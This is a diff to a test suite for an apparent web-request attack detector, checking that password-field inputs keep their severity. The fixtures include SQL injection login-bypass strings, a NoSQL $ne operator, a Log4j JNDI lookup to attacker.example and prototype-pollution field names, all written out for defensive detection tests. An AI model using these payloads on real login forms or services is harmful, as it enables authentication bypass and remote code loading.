@@ -18,8 +18,21 @@ const GENERATED = [
   'Vdt)]#ZeP2!|o[{u:or;nc', // a separator and a command
   'skJSs\'=@xcaTkrl', // a quote, then SQL-ish symbols
 ];
-// What an attacker sends to a login form's password: closing the literal and saying something.
-const BYPASSES = ["' OR '1'='1", "admin'--", "' or 1=1#", '") or ("1"="1', "'||'1'='1", "' and sleep(5)--"];
+// What an attacker sends to a login form's password: leaving the literal and saying something (a second review
+// found the operator and IS NOT NULL forms lowered), or a tautology after a split (user `\\`).
+const BYPASSES = [
+  "' OR '1'='1",
+  "admin'--",
+  "' or 1=1#",
+  '") or ("1"="1',
+  "'||'1'='1",
+  "' and sleep(5)--",
+  "'=0#",
+  "' =0 -- -",
+  "'-0-- -",
+  "' IS NOT NULL-- ",
+  "')=0#",
+];
 
 const ruleset = loadRuleset();
 const config = detectionConfigSchema.parse({});
@@ -70,9 +83,34 @@ describe('password fields', () => {
     assert.deepEqual(under, []);
   });
 
-  test('SQL injection that closes the literal is still blocked in a password field', () => {
-    const under = BYPASSES.filter((p) => top(json({ username: 'admin', password: p })) < RANK.critical!);
+  test('SQL injection that leaves the literal is still high or critical in a password field', () => {
+    const under = [...BYPASSES, ' or 1=1-- -'].filter((p) => top(json({ username: 'admin', password: p })) < RANK.high!);
     assert.deepEqual(under, []);
+  });
+
+  test('what else a password can carry keeps its severity: NoSQL operators, a Log4j lookup', () => {
+    for (const body of [{ password: { $ne: null } }, { password: '${jndi:ldap://attacker.example/a}' }])
+      assert.equal(top(json(body)), RANK.critical, JSON.stringify(body));
+  });
+
+  test('a field name ending like a password lowers nothing: names are chosen by the sender', () => {
+    assert.equal(top(form('__proto__[isAdmin][pass]=1')), RANK.critical);
+    assert.equal(top(form('constructor[prototype][isAdmin][pwd]=1')), RANK.critical);
+  });
+
+  test('JSF and ASP.NET password fields are password fields', () => {
+    for (const name of ['loginForm:password', 'ctl00$Main$Password'])
+      assert.ok(top(form(`user=jane&${encodeURIComponent(name)}=${encodeURIComponent(GENERATED[5]!)}`)) <= RANK.low!, name);
+  });
+
+  test('a whole-form copy is inspected with password values blanked: nothing lowered leaks through it', () => {
+    // `remember me` (a space in a name) makes the form odd, so the inspector also reads it whole.
+    const found = inspector.inspect(form(`email=j%40x.io&password=${encodeURIComponent(GENERATED[5]!)}&remember+me=1`));
+    assert.ok(!found.some((f) => f.fragment?.includes('HPcF') || f.explanation.includes('HPcF')), JSON.stringify(found));
+    assert.ok(found.every((f) => RANK[f.severity]! <= RANK.low!), JSON.stringify(found));
+    const state = compileState(ruleset, config, []);
+    runInspection(state, form('email=j%40x.io&password=Secr3tPlainPw&remember+me=1'));
+    assert.ok(![...state.clean.keys()].some((k) => typeof k === 'string' && k.includes('Secr3tPlainPw')));
   });
 
   test('no fragment of a password is recorded, and the clean-value cache keeps only hashes of it', () => {
